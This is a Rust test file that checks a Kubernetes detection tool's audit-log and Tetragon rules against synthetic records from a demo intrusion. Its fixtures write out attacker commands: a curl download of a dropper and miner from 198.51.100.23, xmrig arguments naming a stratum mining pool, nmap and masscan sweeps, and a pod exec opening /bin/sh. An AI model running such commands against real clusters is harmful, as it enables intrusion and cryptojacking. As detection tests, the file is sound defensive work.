//! Every built-in rule against records that must fire it and records that
//! must not, built by the real parsers from records in the tools' formats
//! (the demo incident's identities, addresses and pods).

use super::cluster::ClusterRanges;
use super::condition::EventView;
use super::scan::{Evaluator, Row};
use super::Rules;
use crate::formats::{audit, tetragon};
use crate::model::NewEvent;
use serde_json::{json, Value};

/// The demo cluster as its snapshot describes it: node IPs, pod CIDRs and
/// a few service cluster IPs.
fn snapshot() -> ClusterRanges {
    ClusterRanges::from_ranges([
        "10.224.0.4",
        "10.224.0.5",
        "10.224.0.6",
        "10.244.0.0/24",
        "10.244.1.0/24",
        "10.244.2.0/24",
        "10.0.0.1",
        "10.0.0.10",
        "10.0.112.45",
    ])
}

fn rules() -> Rules {
    Rules::load_builtin().unwrap()
}

fn fires_with(rule: &str, ev: &NewEvent, cluster: &ClusterRanges) -> bool {
    let rules = rules();
    let r = rules
        .get(rule)
        .unwrap_or_else(|| panic!("no rule {}", rule));
    assert!(r.threshold.is_none(), "{} counts: use the evaluator", rule);
    if r.source != ev.source {
        return false;
    }
    let view = EventView {
        source: ev.source.as_str(),
        kind: ev.kind.as_str(),
        rule: ev.rule.as_deref(),
        fields: &ev.fields,
    };
    r.when.eval(&view, cluster)
}

fn fires(rule: &str, ev: &NewEvent) -> bool {
    fires_with(rule, ev, &snapshot())
}

fn audit(v: Value) -> NewEvent {
    audit::parse(v.to_string().as_bytes()).unwrap()
}

fn tetragon(v: Value) -> NewEvent {
    tetragon::parse(v.to_string().as_bytes()).unwrap()
}

// --- audit records ---------------------------------------------------------------

/// The `cart` service account's bound token, as the API server logs it.
fn cart_token() -> Value {
    json!({
        "username": "system:serviceaccount:shop:cart",
        "uid": "c3e47b2d-0c73-43d6-98cf-e077d2cf56c8",
        "groups": ["system:serviceaccounts", "system:serviceaccounts:shop", "system:authenticated"],
        "extra": {
            "authentication.kubernetes.io/credential-id": ["JTI=e4931af7-e909-40ab-be63-84b882126348"],
            "authentication.kubernetes.io/node-name": ["aks-nodepool1-31415926-vmss000001"],
            "authentication.kubernetes.io/node-uid": ["76618e77-ca14-4e5e-83c0-2eda4c05a554"],
            "authentication.kubernetes.io/pod-name": ["cart-7f9c6d8b5-x2k4q"],
            "authentication.kubernetes.io/pod-uid": ["5073bb1d-f9d3-4ee8-9817-7e92b9975677"]
        }
    })
}

/// A kube-controller-manager controller: its own service account, a token
/// bound to no pod.
fn controller(name: &str) -> Value {
    json!({
        "username": format!("system:serviceaccount:kube-system:{}", name),
        "uid": "0b5e8d2c-7f3a-4c19-b6e4-2d8a1f9c5e70",
        "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]
    })
}

fn person() -> Value {
    json!({"username": "alex.kim@contoso.example", "groups": ["4f1d2c3b-8a9e-4b7c-9d6e-0a1b2c3d4e5f", "system:authenticated"]})
}

/// One ResponseComplete audit line.
#[allow(clippy::too_many_arguments)]
fn request(
    audit_id: &str,
    verb: &str,
    uri: &str,
    object_ref: Value,
    user: Value,
    source_ip: &str,
    code: u64,
    time: &str,
) -> Value {
    let mut v = json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
        "auditID": audit_id, "stage": "ResponseComplete", "requestURI": uri, "verb": verb,
        "user": user, "sourceIPs": [source_ip], "userAgent": "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350",
        "objectRef": object_ref,
        "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": time, "stageTimestamp": time,
        "annotations": {"authorization.k8s.io/decision": if code == 403 { "forbid" } else { "allow" }}
    });
    if code == 403 {
        v["responseStatus"] = json!({"metadata": {}, "status": "Failure", "reason": "Forbidden", "code": 403,
            "message": "forbidden"});
    }
    v
}

fn list_pods_from(ip: &str, user: Value) -> NewEvent {
    audit(request(
        "0a6f3c2e-8b1d-4d57-9e24-6f1b7c3a9d05",
        "list",
        "/api/v1/namespaces/shop/pods?limit=500",
        json!({"resource": "pods", "namespace": "shop", "apiVersion": "v1"}),
        user,
        ip,
        200,
        "2026-11-20T09:41:07.123456Z",
    ))
}

#[test]
fn krd_audit_001_stolen_token_from_outside_the_cluster() {
    let stolen = list_pods_from("203.0.113.45", cart_token());
    assert!(fires("KRD-AUDIT-001", &stolen));
    assert!(fires_with(
        "KRD-AUDIT-001",
        &stolen,
        &ClusterRanges::unknown()
    ));
    // The same token from its own pod.
    assert!(!fires(
        "KRD-AUDIT-001",
        &list_pods_from("10.244.1.23", cart_token())
    ));
    // A controller of the managed control plane, outside the node and pod
    // ranges, with a token bound to no pod.
    assert!(!fires(
        "KRD-AUDIT-001",
        &list_pods_from("172.31.36.12", controller("endpointslice-controller"))
    ));
    // A person from outside: not a service-account token.
    assert!(!fires(
        "KRD-AUDIT-001",
        &list_pods_from("198.18.42.7", person())
    ));
}

#[test]
fn krd_audit_001_outside_cluster_with_and_without_snapshot_ranges() {
    // 10.224.0.100 is private but no node of the cluster (a VPN client).
    let vpn = list_pods_from("10.224.0.100", cart_token());
    assert!(fires_with("KRD-AUDIT-001", &vpn, &snapshot()));
    assert!(!fires_with(
        "KRD-AUDIT-001",
        &vpn,
        &ClusterRanges::unknown()
    ));
    // A node address is inside either way.
    let node = list_pods_from("10.224.0.5", cart_token());
    assert!(!fires_with("KRD-AUDIT-001", &node, &snapshot()));
    assert!(!fires_with(
        "KRD-AUDIT-001",
        &node,
        &ClusterRanges::unknown()
    ));
    // X-Forwarded-For first, peer last: an outside client behind an
    // in-cluster proxy still counts.
    let mut v = request(
        "1b2c3d4e-0000-4000-8000-000000000001",
        "list",
        "/api/v1/namespaces/shop/pods",
        json!({"resource": "pods", "namespace": "shop", "apiVersion": "v1"}),
        cart_token(),
        "203.0.113.45",
        200,
        "2026-11-20T09:41:07.123456Z",
    );
    v["sourceIPs"] = json!(["203.0.113.45", "10.244.2.7"]);
    assert!(fires("KRD-AUDIT-001", &audit(v)));
}

fn exec(verb: &str, subresource: &str, user: Value, uri_query: &str) -> NewEvent {
    let mut v = request(
        "b3f1e2d4-6a7c-4b8e-9f0a-1c2d3e4f5a6b",
        verb,
        &format!(
            "/api/v1/namespaces/shop/pods/cart-7f9c6d8b5-x2k4q/{}?{}",
            subresource, uri_query
        ),
        json!({"resource": "pods", "namespace": "shop", "name": "cart-7f9c6d8b5-x2k4q", "apiVersion": "v1", "subresource": subresource}),
        user,
        "203.0.113.45",
        101,
        "2026-11-20T09:43:02.412934Z",
    );
    v["stage"] = json!("ResponseStarted");
    audit(v)
}

#[test]
fn krd_audit_002_exec_attach_portforward_by_either_verb() {
    let q = "command=%2Fbin%2Fsh&container=cart&stdin=true&stdout=true&tty=true";
    assert!(
        fires("KRD-AUDIT-002", &exec("get", "exec", cart_token(), q)),
        "kubectl >= 1.30"
    );
    assert!(
        fires("KRD-AUDIT-002", &exec("create", "exec", person(), q)),
        "kubectl <= 1.29"
    );
    assert!(fires(
        "KRD-AUDIT-002",
        &exec("create", "attach", person(), "container=cart&stdin=true")
    ));
    assert!(fires(
        "KRD-AUDIT-002",
        &exec("get", "portforward", person(), "ports=6379")
    ));
    // Reading the pod or its logs is no stream into it.
    assert!(!fires(
        "KRD-AUDIT-002",
        &exec("get", "log", person(), "container=cart")
    ));
    let get_pod = audit(request(
        "5e6f7a8b-0000-4000-8000-000000000002",
        "get",
        "/api/v1/namespaces/shop/pods/cart-7f9c6d8b5-x2k4q",
        json!({"resource": "pods", "namespace": "shop", "name": "cart-7f9c6d8b5-x2k4q", "apiVersion": "v1"}),
        cart_token(),
        "203.0.113.45",
        200,
        "2026-11-20T09:43:02.205118Z",
    ));
    assert!(!fires("KRD-AUDIT-002", &get_pod));
}

fn list_secrets(ns: &str, user: Value, code: u64) -> NewEvent {
    audit(request(
        "4c9e1a7b-2d3f-4a85-b6c0-8e7d5f3a1b29",
        "list",
        &format!("/api/v1/namespaces/{}/secrets?limit=500", ns),
        json!({"resource": "secrets", "namespace": ns, "apiVersion": "v1"}),
        user,
        "203.0.113.45",
        code,
        "2026-11-20T09:41:30.412087Z",
    ))
}

#[test]
fn krd_audit_003_secrets_listed_or_read_by_a_service_account() {
    assert!(fires(
        "KRD-AUDIT-003",
        &list_secrets("shop", cart_token(), 200)
    ));
    assert!(
        fires(
            "KRD-AUDIT-003",
            &list_secrets("kube-system", cart_token(), 403)
        ),
        "attempts count"
    );
    // A person, and the control plane's own controllers, are not flagged.
    assert!(!fires(
        "KRD-AUDIT-003",
        &list_secrets("shop", person(), 200)
    ));
    assert!(!fires(
        "KRD-AUDIT-003",
        &list_secrets("shop", controller("namespace-controller"), 200)
    ));
    // Config maps are not secrets.
    let cm = audit(request(
        "6a7b8c9d-0000-4000-8000-000000000003",
        "list",
        "/api/v1/namespaces/shop/configmaps",
        json!({"resource": "configmaps", "namespace": "shop", "apiVersion": "v1"}),
        cart_token(),
        "10.244.1.23",
        200,
        "2026-11-20T09:41:30.412087Z",
    ));
    assert!(!fires("KRD-AUDIT-003", &cm));
}

/// The 403 burst rule through the real evaluator, with events `secs` after
/// 09:41:30 by `users`.
fn forbidden_bursts(events: &[(i64, &str)]) -> Vec<Vec<i64>> {
    let rules = rules();
    let idx = rules.iter().position(|r| r.id == "KRD-AUDIT-004").unwrap();
    let cluster = snapshot();
    let mut eval = Evaluator::new(&rules, &cluster);
    for (i, (secs, user)) in events.iter().enumerate() {
        let mut u = cart_token();
        u["username"] = json!(user);
        let ev = list_secrets("kube-system", u, 403);
        let t = ev.time_ns.unwrap() + secs * 1_000_000_000;
        eval.feed(&Row {
            key: i as i64,
            time_ns: Some(t),
            source: ev.source.as_str(),
            kind: ev.kind.as_str(),
            rule: ev.rule.as_deref(),
            fields: &ev.fields,
        });
    }
    eval.finish()
        .into_iter()
        .filter(|f| f.rule == idx)
        .map(|f| f.keys)
        .collect()
}

#[test]
fn krd_audit_004_burst_of_403s_at_its_edges() {
    let u = "system:serviceaccount:shop:cart";
    assert!(
        forbidden_bursts(&[(0, u), (10, u), (20, u), (30, u)]).is_empty(),
        "N-1 in the window"
    );
    assert_eq!(
        forbidden_bursts(&[(0, u), (10, u), (20, u), (30, u), (60, u)]),
        vec![vec![0, 1, 2, 3, 4]],
        "N"
    );
    assert!(
        forbidden_bursts(&[(0, u), (20, u), (40, u), (60, u), (80, u)]).is_empty(),
        "N spread beyond the window"
    );
    // Grouped by user: five refusals shared by two identities are no burst.
    let v = "system:serviceaccount:shop:checkout";
    assert!(forbidden_bursts(&[(0, u), (1, v), (2, u), (3, v), (4, u)]).is_empty());
    // Allowed requests do not count.
    let rules = rules();
    let r = rules.get("KRD-AUDIT-004").unwrap();
    let ok = list_secrets("shop", cart_token(), 200);
    let view = EventView {
        source: "k8s-audit",
        kind: "telemetry",
        rule: ok.rule.as_deref(),
        fields: &ok.fields,
    };
    assert!(!r.when.eval(&view, &snapshot()));
}

fn create_pod(user: Value, spec: Value) -> NewEvent {
    let mut v = request(
        "c7a1d3e5-2b4f-4a6c-8e0d-f1a3c5e7b9d2",
        "create",
        "/api/v1/namespaces/shop/pods",
        json!({"resource": "pods", "namespace": "shop", "apiVersion": "v1"}),
        user,
        "203.0.113.45",
        201,
        "2026-11-20T09:46:00.000000Z",
    );
    v["level"] = json!("Request");
    v["requestObject"] = json!({"kind": "Pod", "apiVersion": "v1",
        "metadata": {"name": "debug", "namespace": "shop"}, "spec": spec});
    audit(v)
}

#[test]
fn krd_audit_005_privileged_host_path_or_host_network_pod() {
    let image = "docker.io/library/alpine:3.20";
    let privileged = json!({"containers": [{"name": "x", "image": image, "securityContext": {"privileged": true}}]});
    let host_path = json!({"containers": [{"name": "x", "image": image}],
        "volumes": [{"name": "root", "hostPath": {"path": "/", "type": ""}}]});
    let host_net = json!({"hostNetwork": true, "containers": [{"name": "x", "image": image}]});
    let plain = json!({"containers": [{"name": "x", "image": image}]});
    assert!(fires(
        "KRD-AUDIT-005",
        &create_pod(cart_token(), privileged)
    ));
    assert!(fires("KRD-AUDIT-005", &create_pod(person(), host_path)));
    assert!(fires("KRD-AUDIT-005", &create_pod(cart_token(), host_net)));
    assert!(!fires("KRD-AUDIT-005", &create_pod(cart_token(), plain)));
    // A DaemonSet's template counts too.
    let mut ds = request(
        "9d8c7b6a-0000-4000-8000-000000000004",
        "create",
        "/apis/apps/v1/namespaces/kube-system/daemonsets",
        json!({"resource": "daemonsets", "namespace": "kube-system", "apiGroup": "apps", "apiVersion": "v1"}),
        cart_token(),
        "203.0.113.45",
        201,
        "2026-11-20T09:46:00.000000Z",
    );
    ds["requestObject"] = json!({"kind": "DaemonSet", "spec": {"template": {"spec":
        {"hostPID": true, "containers": [{"name": "x", "image": image}]}}}});
    assert!(fires("KRD-AUDIT-005", &audit(ds)));
    // The daemon-set controller creating Falco's pods from their template
    // (the sample audit log's first line): the controller, not an attacker.
    let sample = include_str!("../../fixtures/samples/k8s-audit/log-backend.jsonl")
        .lines()
        .next()
        .unwrap();
    let falco_pod = audit::parse(sample.as_bytes()).unwrap();
    assert_eq!(falco_pod.fields["pod_host_path"], true);
    assert!(!fires("KRD-AUDIT-005", &falco_pod));
}

fn binding(resource: &str, role: &str) -> NewEvent {
    let mut v = request(
        "9b8c7d6e-5f4a-4b3c-8d2e-1f0a9b8c7d6e",
        "create",
        &format!("/apis/rbac.authorization.k8s.io/v1/{}", resource),
        json!({"resource": resource, "name": "x", "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"}),
        cart_token(),
        "203.0.113.45",
        201,
        "2026-11-20T09:48:00.000000Z",
    );
    v["level"] = json!("Request");
    v["requestObject"] = json!({"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "x"},
        "subjects": [{"kind": "ServiceAccount", "name": "cart", "namespace": "shop"}],
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role}});
    audit(v)
}

#[test]
fn krd_audit_006_binding_to_cluster_admin() {
    assert!(fires(
        "KRD-AUDIT-006",
        &binding("clusterrolebindings", "cluster-admin")
    ));
    assert!(fires(
        "KRD-AUDIT-006",
        &binding("rolebindings", "cluster-admin")
    ));
    assert!(!fires(
        "KRD-AUDIT-006",
        &binding("clusterrolebindings", "view")
    ));
    // The sample log's RoleBinding to `cart-secrets-reader` (a release).
    let sample = include_str!("../../fixtures/samples/k8s-audit/log-backend.jsonl")
        .lines()
        .find(|l| l.contains("\"rolebindings\""))
        .unwrap();
    let ev = audit::parse(sample.as_bytes()).unwrap();
    assert_eq!(ev.fields["role_ref"], "cart-secrets-reader");
    assert!(!fires("KRD-AUDIT-006", &ev));
}

fn delete_events(verb: &str, user: Value) -> NewEvent {
    audit(request(
        "7e6d5c4b-0000-4000-8000-000000000005",
        verb,
        "/api/v1/namespaces/shop/events",
        json!({"resource": "events", "namespace": "shop", "apiVersion": "v1"}),
        user,
        "203.0.113.45",
        200,
        "2026-11-20T09:49:00.000000Z",
    ))
}

#[test]
fn krd_audit_007_events_deleted() {
    assert!(fires(
        "KRD-AUDIT-007",
        &delete_events("deletecollection", cart_token())
    ));
    assert!(fires("KRD-AUDIT-007", &delete_events("delete", person())));
    assert!(!fires(
        "KRD-AUDIT-007",
        &delete_events("list", cart_token())
    ));
    // Namespace deletion: the namespace controller empties it.
    assert!(!fires(
        "KRD-AUDIT-007",
        &delete_events("deletecollection", controller("namespace-controller"))
    ));
}

// --- Tetragon records ----------------------------------------------------------------

/// The compromised pod, as Tetragon attaches it to every process.
fn cart_pod() -> Value {
    json!({
        "namespace": "shop", "name": "cart-7f9c6d8b5-x2k4q", "uid": "5073bb1d-f9d3-4ee8-9817-7e92b9975677",
        "container": {
            "id": "containerd://335beb25619aada911de4c9c604086ce78db2f1ba7103cbf509937476f0575a3",
            "name": "cart",
            "image": {"id": "shopregistry.azurecr.io/shop/cart@sha256:aeaf1efab052b1dcf5343a5c4d02aa55aa54a7d686f7a402d9267e07f5835bb6",
                      "name": "shopregistry.azurecr.io/shop/cart:2.3.1"},
            "start_time": "2026-11-18T07:42:13Z", "pid": 71
        },
        "pod_labels": {"app": "cart", "pod-template-hash": "7f9c6d8b5"},
        "workload": "cart", "workload_kind": "Deployment"
    })
}

fn process(binary: &str, arguments: &str, pid: u64) -> Value {
    json!({
        "exec_id": "YWtzLW5vZGVwb29sMS0zMTQxNTkyNi12bXNzMDAwMDAxOjE4NjE2ODQwMjExNzY1MDoyMjkyNzQx",
        "pid": pid, "uid": 10001, "cwd": "/app", "binary": binary, "arguments": arguments,
        "flags": "execve clone", "start_time": "2026-11-20T09:47:21.130201544Z", "auid": 4294967295u64,
        "pod": cart_pod(), "docker": "335beb25619aada911de4c9c604086c", "tid": pid, "in_init_tree": false
    })
}

fn exec_event(binary: &str, arguments: &str) -> NewEvent {
    tetragon(json!({
        "process_exec": {"process": process(binary, arguments, 2292803),
                         "parent": process("/bin/sh", "", 2292735)},
        "node_name": "aks-nodepool1-31415926-vmss000001",
        "time": "2026-11-20T09:47:21.130201544Z",
        "cluster_name": "aks-shop-prod"
    }))
}

fn exit_event(binary: &str, arguments: &str) -> NewEvent {
    tetragon(json!({
        "process_exit": {"process": process(binary, arguments, 2292803), "signal": "SIGKILL",
                         "time": "2026-11-20T10:02:00.000000000Z"},
        "node_name": "aks-nodepool1-31415926-vmss000001",
        "time": "2026-11-20T10:02:00.000000000Z"
    }))
}

fn connect(binary: &str, daddr: &str, dport: u64) -> NewEvent {
    tetragon(json!({
        "process_kprobe": {
            "process": process(binary, "", 2292803),
            "function_name": "tcp_connect",
            "args": [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
                "saddr": "10.244.1.23", "daddr": daddr, "sport": 48312, "dport": dport,
                "cookie": "18446623887337437248", "state": "TCP_SYN_SENT"}}],
            "action": "KPROBE_ACTION_POST", "policy_name": "monitor-network-activity"
        },
        "node_name": "aks-nodepool1-31415926-vmss000001",
        "time": "2026-11-20T09:47:22.017311022Z"
    }))
}

#[test]
fn krd_tetra_001_network_scanner_executed() {
    assert!(fires(
        "KRD-TETRA-001",
        &exec_event("/usr/bin/nmap", "-sT -Pn -p 6379,2375,10250 10.244.0.0/16")
    ));
    assert!(fires(
        "KRD-TETRA-001",
        &exec_event("/usr/local/bin/masscan", "-p0-65535 10.244.0.0/16")
    ));
    assert!(!fires(
        "KRD-TETRA-001",
        &exec_event("/usr/bin/curl", "-s http://198.51.100.23/x.sh")
    ));
    assert!(
        !fires(
            "KRD-TETRA-001",
            &exit_event("/usr/bin/nmap", "-sS 10.244.0.0/16")
        ),
        "the exit is no new run"
    );
}

#[test]
fn krd_tetra_002_miner_executed_by_name_or_pool_url() {
    let args = "-o stratum+tcp://pool.minexmr.example:4444 -u 4Bkordon0demo0wallet -p cart -k --donate-level 1";
    assert!(fires("KRD-TETRA-002", &exec_event("/tmp/.x/xmrig", args)));
    assert!(fires(
        "KRD-TETRA-002",
        &exec_event("/tmp/.x/xmrig", "--version")
    ));
    assert!(
        fires("KRD-TETRA-002", &exec_event("/usr/lib/kworkerd", args)),
        "renamed, caught by its pool URL"
    );
    assert!(!fires(
        "KRD-TETRA-002",
        &exec_event(
            "/usr/bin/curl",
            "-s -o /tmp/.x/xmrig http://198.51.100.23/xmrig"
        )
    ));
    assert!(!fires("KRD-TETRA-002", &exit_event("/tmp/.x/xmrig", args)));
}

#[test]
fn krd_tetra_003_pool_port_outside_the_cluster() {
    assert!(fires(
        "KRD-TETRA-003",
        &connect("/tmp/.x/xmrig", "198.51.100.77", 4444)
    ));
    assert!(fires_with(
        "KRD-TETRA-003",
        &connect("/tmp/.x/xmrig", "198.51.100.77", 4444),
        &ClusterRanges::unknown()
    ));
    // Prometheus scraping a pod on 8080, a pod calling a service on 8080.
    assert!(!fires(
        "KRD-TETRA-003",
        &connect("/bin/prometheus", "10.244.1.23", 8080)
    ));
    assert!(!fires(
        "KRD-TETRA-003",
        &connect("/app/checkout", "10.0.112.45", 8080)
    ));
    assert!(!fires_with(
        "KRD-TETRA-003",
        &connect("/app/checkout", "10.0.112.45", 8080),
        &ClusterRanges::unknown()
    ));
    // The dropper's download: outside, but port 80.
    assert!(!fires(
        "KRD-TETRA-003",
        &connect("/usr/bin/curl", "198.51.100.23", 80)
    ));
}

#[test]
fn krd_tetra_004_binary_from_a_writable_path() {
    assert!(fires(
        "KRD-TETRA-004",
        &exec_event("/tmp/.x/xmrig", "--version")
    ));
    assert!(fires("KRD-TETRA-004", &exec_event("/dev/shm/.k", "")));
    assert!(fires("KRD-TETRA-004", &exec_event("/var/tmp/update", "")));
    assert!(!fires(
        "KRD-TETRA-004",
        &exec_event("/usr/bin/nmap", "-sn 10.244.0.0/16")
    ));
    assert!(
        !fires("KRD-TETRA-004", &exec_event("/tmpfs-tools/bin/x", "")),
        "a prefix is a folder"
    );
    assert!(!fires("KRD-TETRA-004", &exit_event("/tmp/.x/xmrig", "")));
}

#[test]
fn every_builtin_rule_has_its_tests_here() {
    const TESTED: &[&str] = &[
        "KRD-AUDIT-001",
        "KRD-AUDIT-002",
        "KRD-AUDIT-003",
        "KRD-AUDIT-004",
        "KRD-AUDIT-005",
        "KRD-AUDIT-006",
        "KRD-AUDIT-007",
        "KRD-TETRA-001",
        "KRD-TETRA-002",
        "KRD-TETRA-003",
        "KRD-TETRA-004",
    ];
    let ids: Vec<String> = rules().iter().map(|r| r.id.clone()).collect();
    assert_eq!(
        ids, TESTED,
        "a rule was added or removed: give it fire / no-fire tests in this file"
    );
}

#[test]
fn a_rule_never_fires_on_another_source() {
    let exec = exec_event("/usr/bin/nmap", "-sn 10.244.0.0/16");
    for r in rules()
        .iter()
        .filter(|r| r.source.as_str() == "k8s-audit" && r.threshold.is_none())
    {
        assert!(!fires(&r.id, &exec), "{}", r.id);
    }
}
